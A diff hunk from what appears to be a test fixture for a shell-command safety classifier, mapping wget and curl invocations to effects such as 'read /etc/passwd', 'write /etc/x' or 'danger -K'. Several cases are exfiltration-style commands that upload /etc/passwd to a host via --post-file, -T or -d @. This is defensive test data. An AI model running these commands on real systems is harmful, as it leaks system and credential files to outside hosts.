@@ -60,7 +60,7 @@ wget --use-askpass=x u -> open x
 wget -e use_askpass=x u -> danger -e
 wget --post-file=/etc/passwd u -> read /etc/passwd
 wget -O /etc/x u -> write /etc/x
-curl -K f -> danger -K
+curl -K f -> danger -K | read f | read …
 curl -o /etc/x http://h -> write /etc/x
 curl -T /etc/passwd http://h -> read /etc/passwd
 curl -d @/etc/passwd http://h -> read /etc/passwd
